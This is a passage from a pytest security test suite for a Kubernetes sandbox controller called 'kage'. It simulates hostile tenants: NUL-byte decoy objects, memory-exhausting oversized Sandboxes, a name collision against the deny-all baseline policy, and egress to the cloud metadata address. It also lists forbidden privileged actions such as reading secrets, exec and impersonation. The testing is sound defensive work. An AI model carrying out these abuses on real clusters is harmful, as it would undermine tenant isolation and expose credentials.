    return {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy",
            "metadata": {"name": name, "namespace": ns, "labels": labels,
                         "annotations": annotations},
            "spec": {"podSelector": {"matchLabels": {"app": "nothing"}},
                     "policyTypes": ["Ingress"]}}


@pytest.mark.parametrize("kind,make,labels", [
    ("pod", restricted_pod, {"kage.dev/sandbox": "decoy"}),
    ("networkpolicy", decoy_policy, {"app.kubernetes.io/managed-by": "kage",
                                     "kage.dev/sandbox": "decoy"}),
], ids=["pod", "networkpolicy"])
def test_a_nul_character_in_an_object_labelled_as_kages_does_not_stop_kage(
        kubectl, kage, make_namespace, kind, make, labels):
    """Any namespace editor can create a pod or a NetworkPolicy with kage's
    labels (so it lands in kage's caches) and a NUL in an annotation (which
    the API server stores). kage must go on repairing other tenants'
    sandboxes: their pod and their policy, deleted from outside, come back."""
    evil_ns = make_namespace("sec", RESTRICTED)
    other_ns = make_namespace("sec", RESTRICTED)
    kubectl.create(sandbox(other_ns, "bystander"))
    wait_ready(kubectl, other_ns, "bystander")
    old_pod = kubectl.json("-n", other_ns, "get", "pod", "bystander")
    old_policy = kubectl.json("-n", other_ns, "get", "networkpolicy", "bystander")
    kubectl.create(make(evil_ns, "decoy", labels, {"note": "a\u0000b"}))
    try:
        kubectl.run("-n", other_ns, "delete", "pod", "bystander", "--wait=false")
        kubectl.run("-n", other_ns, "delete", "networkpolicy", "bystander", "--wait=false")

        def replaced(kind, old):
            def check():
                obj = get(kubectl, other_ns, kind, "bystander")
                return obj if obj and obj["metadata"]["uid"] != old["metadata"]["uid"] else None
            return check
        wait_for(replaced("networkpolicy", old_policy), timeout=20,
                 what="the bystander's policy to be recreated")
        wait_for(replaced("pod", old_pod), timeout=20, what="the bystander's pod to be recreated")
        wait_ready(kubectl, other_ns, "bystander", timeout=20)
    finally:
        kubectl.run("-n", evil_ns, "delete", kind, "decoy", "--ignore-not-found",
                    "--grace-period=0", "--force", check=False)
        restart_clean(kage)


def big_sandbox(ns, name):
    """A Sandbox of about 1.4 MB, every field within the schema's limits,
    paused (no pod), under the API server's 1.5 MiB request limit: the
    largest a tenant can make."""
    return sandbox(ns, name, paused=True, command=["c" * 4096] * 64, args=["a" * 4096] * 64,
                   env=[{"name": f"E{i}", "value": "v" * 32768} for i in range(26)])


BIG_SANDBOXES = 200


def phases(kubectl, ns):
    """name -> status.phase of every Sandbox of ns, from the API server's
    table (its printer columns), so that no client reads the large objects."""
    lines = kubectl.run("-n", ns, "get", "sandboxes", timeout=300).stdout.splitlines()
    if not lines:
        return {}
    start, end = lines[0].index("PHASE"), lines[0].index("REASON")
    return {line.split()[0]: line[start:end].strip() for line in lines[1:] if line.strip()}


def metrics(kage):
    """kage's /metrics as {name{labels}: value}."""
    import urllib.request
    addr = kage.args[list(kage.args).index("--http-addr") + 1]
    with urllib.request.urlopen(f"http://{addr}/metrics", timeout=10) as resp:
        text = resp.read().decode()
    return {k: float(v) for k, _, v in
            (line.rpartition(" ") for line in text.splitlines() if line and line[0] != "#")}


def assert_within_memory(kage, what):
    """kage is alive, was never OOM-killed, and its peak RSS is under half the
    Deployment's memory limit. Returns the peak, in bytes."""
    q, limit = deployment_memory_limit()
    assert alive(kage), f"the controller died {what}; log tail:\n{kage.log()[-3000:]}"
    peak = peak_rss(kage.proc.pid)
    if kage.cgroup:
        assert kage.cgroup.oom_kills() == 0, f"the controller was OOM-killed {what}"
    assert peak < limit // 2, \
        f"peak RSS {peak / 2**20:.1f} MiB {what}: not under half the Deployment's {q}"
    return peak


def test_large_sandboxes_do_not_stop_kage_after_a_restart(kubectl, kage, make_namespace):
    """One tenant's 200 valid, paused Sandboxes of the largest size (about
    280 MB) are reconciled by kage under the Deployment's memory limit, with
    a peak RSS under half of it, and must not keep kage from reconciling
    other tenants' sandboxes when it (re)lists them: at every start, on a
    leader change and after a 410 Gone. Paged LISTs of 500 objects can be
    larger than kage's 64 MiB bound on a response."""
    evil_ns = make_namespace("sec", RESTRICTED)
    other_ns = make_namespace("sec", RESTRICTED)
    # A fresh process: its peak RSS is this test's.
    assert kage.stop() == 0
    kage.start()
    kage.wait_synced()
    try:
        def create(first):
            kubectl.run("create", "-f", "-", timeout=600, input=json.dumps(
                {"apiVersion": "v1", "kind": "List",
                 "items": [big_sandbox(evil_ns, f"big-{i}")
                           for i in range(first, min(first + 10, BIG_SANDBOXES))]}))
        # Four clients at once: the API server's validation of each large
        # object is most of the time, and it can use both cores.
        with concurrent.futures.ThreadPoolExecutor(4) as pool:
            list(pool.map(create, range(0, BIG_SANDBOXES, 10)))
        wait_for(lambda: sorted(phases(kubectl, evil_ns).values()) == ["Paused"] * BIG_SANDBOXES,
                 timeout=300, interval=2, what="kage to reconcile the large sandboxes")
        assert_within_memory(kage, "reconciling them")

        assert kage.stop() == 0
        kage.start()
        kage.wait_synced(timeout=120)
        kubectl.create(sandbox(other_ns, "bystander"))
        bystander = wait_ready(kubectl, other_ns, "bystander", timeout=60)
        assert bystander["status"]["phase"] == "Running"
        # Every large one reconciled again at the start (each read whole).
        wait_for(lambda: (lambda m: m["kage_queue_depth"] == 0 and m["kage_queue_in_flight"] == 0
                          and m["kage_reconciles_total"] >= BIG_SANDBOXES + 1)(metrics(kage)),
                 timeout=120, interval=1, what="kage's first pass over the large sandboxes")
        assert_within_memory(kage, "after a restart over them")
        assert sorted(phases(kubectl, evil_ns).values()) == ["Paused"] * BIG_SANDBOXES
    finally:
        kubectl.run("-n", evil_ns, "delete", "sandboxes", "--all", "--wait=false", timeout=300,
                    check=False)
        wait_for(lambda: phases(kubectl, evil_ns) == {},
                 timeout=300, interval=2, what="the large sandboxes to go")
        restart_clean(kage)


def test_a_sandbox_named_like_the_baseline_cannot_replace_it(kubectl, kage, make_namespace):
    """The per-sandbox policy is named after the Sandbox: a Sandbox named
    kage-baseline, first in its namespace, must not turn the namespace's
    deny-all baseline into its own allow-list."""
    ns = make_namespace("sec", RESTRICTED)
    kubectl.create(sandbox(ns, "kage-baseline", egress={"allow": [{"cidr": "0.0.0.0/0"}]}))
    sbx = wait_reason(kubectl, ns, "kage-baseline", "NameConflict")
    message = (f"NetworkPolicy {ns}/kage-baseline exists and is not owned by this Sandbox; "
               "kage leaves it alone and creates no pod until it is renamed or removed")
    assert condition(sbx, "Ready")["message"] == message
    base = kubectl.json("-n", ns, "get", "networkpolicy", "kage-baseline")
    assert base["spec"] == BASELINE_SPEC
    assert "ownerReferences" not in base["metadata"]
    assert get(kubectl, ns, "pod", "kage-baseline") is None
    # A neighbour is still confined by the intact baseline and its own policy.
    kubectl.create(sandbox(ns, "neighbour"))
    wait_ready(kubectl, ns, "neighbour")
    findings, _ = live_findings(kubectl, [ns])
    assert findings == []


# ---- 3. the live policies ---------------------------------------------------------


def test_live_policies_pass_the_policy_check(kubectl, kage, make_namespace, classes, tmp_path):
    open_ns = make_namespace("sec", RESTRICTED)
    denied_ns = make_namespace("sec", RESTRICTED)
    ceiling_ns = make_namespace("sec", RESTRICTED)
    denied = classes({"egress": {"deniedCIDRs": ["169.254.0.0/16", "10.96.0.0/12", "fd00::/8"]}})
    ceiling = classes({"egress": {"allowedCIDRs": ["203.0.113.0/24", "10.0.0.0/8"],
                                  "deniedCIDRs": ["10.96.0.0/12"]}})
    made = {
        open_ns: {
            "dns-only": {},
            "no-dns": {"egress": {"dns": False, "allow": [
                {"cidr": "198.51.100.0/24", "ports": [{"port": 22}]}]}},
            "world": {"egress": {"allow": [{"cidr": "0.0.0.0/0", "ports": [{"port": 443}]},
                                           {"cidr": "::/0"}]}},
            "detailed": {"egress": {"allow": [
                {"cidr": "203.0.113.0/24", "except": ["203.0.113.7/32", "203.0.113.128/25"],
                 "ports": [{"port": 443}, {"port": 8000, "endPort": 8100},
                           {"port": 53, "protocol": "UDP"}]},
                {"cidr": "2001:db8::/32", "except": ["2001:db8:1::/48"]}]}},
        },
        denied_ns: {
            "world": {"sandboxClassName": denied, "egress": {"allow": [
                {"cidr": "0.0.0.0/0", "ports": [{"port": 443}]}, {"cidr": "::/0"}]}},
            "ten": {"sandboxClassName": denied, "egress": {"allow": [
                {"cidr": "10.0.0.0/8", "except": ["10.1.0.0/16"]}]}},
            "already-carved": {"sandboxClassName": denied, "egress": {"allow": [
                {"cidr": "169.0.0.0/8", "except": ["169.254.0.0/16"]}]}},
            "untouched": {"sandboxClassName": denied, "egress": {"allow": [
                {"cidr": "192.0.2.0/24"}]}},
        },
        ceiling_ns: {
            "inside": {"sandboxClassName": ceiling, "egress": {"allow": [
                {"cidr": "203.0.113.0/25"}, {"cidr": "10.0.0.0/8", "ports": [{"port": 443}]}]}},
        },
    }
    for ns, specs in made.items():
        for name, spec in specs.items():
            kubectl.create(sandbox(ns, name, **spec))
    for ns, specs in made.items():
        for name in specs:
            wait_ready(kubectl, ns, name)

    findings, (policies, sandboxes, cls, pods) = live_findings(
        kubectl, list(made), [denied, ceiling])
    assert findings == []
    # The class's denied ranges are in the live objects, carved as except.
    world = next(p for p in policies if p["metadata"]["namespace"] == denied_ns and
                 p["metadata"]["name"] == "world")
    assert world["spec"]["egress"][1]["to"] == [
        {"ipBlock": {"cidr": "0.0.0.0/0", "except": ["169.254.0.0/16", "10.96.0.0/12"]}}]
    assert len([p for p in policies if p["metadata"]["name"] == "kage-baseline"]) == 3

    # The command line gives the same verdict on the same objects.
    files = []
    for what, objs in (("policies", policies), ("sandboxes", sandboxes), ("classes", cls),
                       ("pods", pods)):
        path = tmp_path / f"{what}.json"
        path.write_text(json.dumps({"apiVersion": "v1", "kind": "List", "items": objs}))
        files.append(str(path))
    cli = subprocess.run([sys.executable, str(REPO / "tests/security/check_policies.py"),
                          *files], capture_output=True, text=True)
    assert (cli.returncode, cli.stdout) == (
        0, f"check_policies: {len(policies)} policies, {len(sandboxes)} sandboxes: 0 findings\n")

    # And it is not blind on live objects: each widening is caught.
    def spoiled(change, want):
        pols = copy.deepcopy(policies)
        change({(p["metadata"]["namespace"], p["metadata"]["name"]): p for p in pols})
        found = check_policies.check(pols, sandboxes, cls, pods)
        assert any(want in f for f in found), (want, found)

    spoiled(lambda p: p[(open_ns, "detailed")]["spec"]["egress"][1]["to"].append(
        {"podSelector": {}}), "opens in-cluster reach")
    spoiled(lambda p: p[(denied_ns, "ten")]["spec"]["egress"][1]["to"][0]["ipBlock"].__setitem__(
        "except", ["10.1.0.0/16"]), "does not carve out 10.96.0.0/12")
    spoiled(lambda p: p[(open_ns, "no-dns")]["spec"].__setitem__(
        "ingress", [{"from": [{"ipBlock": {"cidr": "0.0.0.0/0"}}]}]), "ingress rule(s)")
    spoiled(lambda p: p[(ceiling_ns, "inside")]["spec"]["egress"][1]["to"][0]["ipBlock"]
            .__setitem__("cidr", "203.0.113.0/24"), "wider than any spec.egress.allow entry")
    spoiled(lambda p: p[(open_ns, "kage-baseline")]["spec"].__setitem__("egress", [{}]),
            "the baseline denies everything")


def test_denying_a_range_in_a_class_recarves_the_policies_of_its_sandboxes(
        kubectl, kage, make_namespace, classes):
    ns = make_namespace("sec", RESTRICTED)
    cls = classes({})
    kubectl.create(sandbox(ns, "tenant", sandboxClassName=cls, egress={"allow": [
        {"cidr": "10.0.0.0/8"}, {"cidr": "0.0.0.0/0", "ports": [{"port": 443}]}]}))
    wait_ready(kubectl, ns, "tenant")
    pod = kubectl.json("-n", ns, "get", "pod", "tenant")
    classes({"egress": {"deniedCIDRs": ["10.96.0.0/12", "169.254.0.0/16"]}}, name=cls)

    want = [
        DNS_RULE,
        {"to": [{"ipBlock": {"cidr": "10.0.0.0/8", "except": ["10.96.0.0/12"]}}]},
        {"to": [{"ipBlock": {"cidr": "0.0.0.0/0", "except": ["10.96.0.0/12", "169.254.0.0/16"]}}],
         "ports": [{"protocol": "TCP", "port": 443}]},
    ]
    wait_for(lambda: kubectl.json("-n", ns, "get", "networkpolicy", "tenant")["spec"].get(
        "egress") == want, timeout=CONVERGE, what="the policy to carve the denied ranges")
    findings, _ = live_findings(kubectl, [ns], [cls])
    assert findings == []
    assert get(kubectl, ns, "pod", "tenant")["metadata"]["uid"] == pod["metadata"]["uid"]


def test_a_sandbox_blocked_by_a_tightened_class_keeps_no_policy_to_a_denied_range(
        kubectl, kage, make_namespace, classes):
    """The class now denies a range the Sandbox asked for: the Sandbox is
    blocked (PolicyViolation) and its pod goes. The policy it keeps must not
    go on allowing the denied range: it still selects any pod labelled
    kage.dev/sandbox=<name> in the namespace."""
    ns = make_namespace("sec", RESTRICTED)
    cls = classes({})
    kubectl.create(sandbox(ns, "metadata-reader", sandboxClassName=cls, egress={"allow": [
        {"cidr": "203.0.113.0/24"}, {"cidr": "169.254.169.254/32"}]}))
    wait_ready(kubectl, ns, "metadata-reader")
    classes({"egress": {"deniedCIDRs": ["169.254.0.0/16"]}}, name=cls)
    sbx = wait_reason(kubectl, ns, "metadata-reader", "PolicyViolation")
    assert condition(sbx, "Ready")["message"] == (
        "spec.egress.allow[1].cidr: 169.254.169.254/32 lies inside 169.254.0.0/16, which "
        f"SandboxClass {cls} denies")
    wait_for(lambda: get(kubectl, ns, "pod", "metadata-reader") is None, timeout=CONVERGE,
             what="the blocked sandbox's pod to go")
    findings, _ = live_findings(kubectl, [ns], [cls])
    assert findings == []


# ---- 4. the controller's own token --------------------------------------------------


def test_the_controller_token_cannot_read_secrets_exec_or_escalate(kubectl, kage, cluster_env,
                                                                    make_namespace):
    ns = make_namespace("sec", RESTRICTED)
    ctl = Kubectl(cluster_env["BIN_DIR"], kage.kubeconfig)  # its token, not impersonation
    who = ctl.json("auth", "whoami")
    assert who["status"]["userInfo"]["username"] == SA
    assert ctl.run("auth", "can-i", "create", "pods", "-n", ns).stdout.strip() == "yes"
    for args in (["get", "secrets"], ["list", "secrets", "--all-namespaces"],
                 ["create", "pods", "--subresource=exec"],
                 ["create", "pods", "--subresource=attach"],
                 ["create", "pods", "--subresource=portforward"],
                 ["create", "serviceaccounts", "--subresource=token"],
                 ["escalate", "clusterroles"], ["bind", "clusterroles"],
                 ["impersonate", "users"], ["create", "clusterrolebindings"]):
        proc = ctl.run("auth", "can-i", *args, "-n", ns, check=False)
        assert proc.stdout.strip() == "no", f"{args}: {proc.stdout.strip()}"
    proc = ctl.run("-n", ns, "get", "secrets", check=False)
    assert proc.returncode != 0
    assert proc.stderr.strip() == (
        f'Error from server (Forbidden): secrets is forbidden: User "{SA}" cannot list '
        f'resource "secrets" in API group "" in the namespace "{ns}"')


def test_the_controller_survived_and_logged_no_error(kage, log_mark):
    assert alive(kage)
    lines = kage.log_lines()[log_mark:]
    assert [l for l in lines if "raw" in l] == []
    assert [l for l in lines if l.get("level") == "error"] == []
